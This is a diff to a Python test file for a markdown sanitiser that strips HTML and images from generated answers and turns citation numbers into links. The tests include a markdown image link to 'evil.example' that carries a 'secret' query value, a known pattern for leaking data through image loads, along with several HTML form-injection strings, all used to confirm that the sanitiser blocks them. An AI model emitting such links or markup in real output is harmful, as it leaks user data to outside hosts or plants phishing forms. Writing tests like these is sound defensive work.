@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import html
 import re
 from typing import Any
 
 import pytest
+from markdown_it import MarkdownIt
 
 from apps.answer import harmless, with_links
 from apps.panels import documents_of, level, panel, table
@@ -134,9 +136,35 @@ def test_markdown_signs_are_taken_out_and_words_stay() -> None:
 
 def test_citation_numbers_become_links_and_others_stay() -> None:
     text = with_links("Yes [1]. No [2], [see](x) `a[1]`", 1, 4)
-    assert text == r"Yes [\[1\]](#source-4-1). No [2], [see](x) `a[1]`"
+    assert text == r"Yes [\[1\]](#source-4-1). No [2], [see](x) <code>a&#91;1&#93;</code>"
 
 
 def test_answers_keep_markdown_but_lose_html_and_images() -> None:
-    assert harmless("- **a** <b>x</b> & `x < 1`") == "- **a** &lt;b>x&lt;/b> &amp; `x < 1`"
-    assert harmless("![x](http://evil.example/?q=secret)").startswith("!\\[")
+    assert harmless("- **a** <b>x</b> & `x < 1`") == "- **a** &#60;b>x&#60;/b> &#38; <code>x &#60; 1</code>"
+    assert "<img" not in MarkdownIt().render(harmless("![x](http://evil.example/?q=secret)"))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'is \\`<form action="/login"><input name=pw></form>\\` per crate. [1]',
+        'The levy is ``` <form style="position:fixed">bold</form> due now. [1]',
+        "Two `` ticks ` and <form> ` more `` here. [1]",
+        "```\n<form>\n [1]",
+        "~~~ x\n~~~ <form>\n\n[1]",
+        "    <form> indented\n\n\\\\`<form>`\n\n[1]",
+        "`a\n<form>\nb` [1]",
+    ],
+)
+def test_no_tag_of_a_text_becomes_a_tag_of_the_page(text: str) -> None:
+    for shown in (harmless(text), with_links(text, 1, 0)):
+        page = MarkdownIt("commonmark", {"html": True}).render(shown)
+        assert "<form" not in page and "<input" not in page
+        assert "form" in html.unescape(page)
+
+
+def test_code_shows_as_it_was_written() -> None:
+    text = "Run:\n\n```python\nif a < b:\n    print('&amp; [1]')\n```\n\nThen stop."
+    page = MarkdownIt("commonmark", {"html": True}).render(with_links(text, 1, 0))
+    code = re.search("<pre><code>(.*?)</code></pre>", page, re.DOTALL)
+    assert code and html.unescape(code[1]) == "if a < b:\n    print('&amp; [1]')"
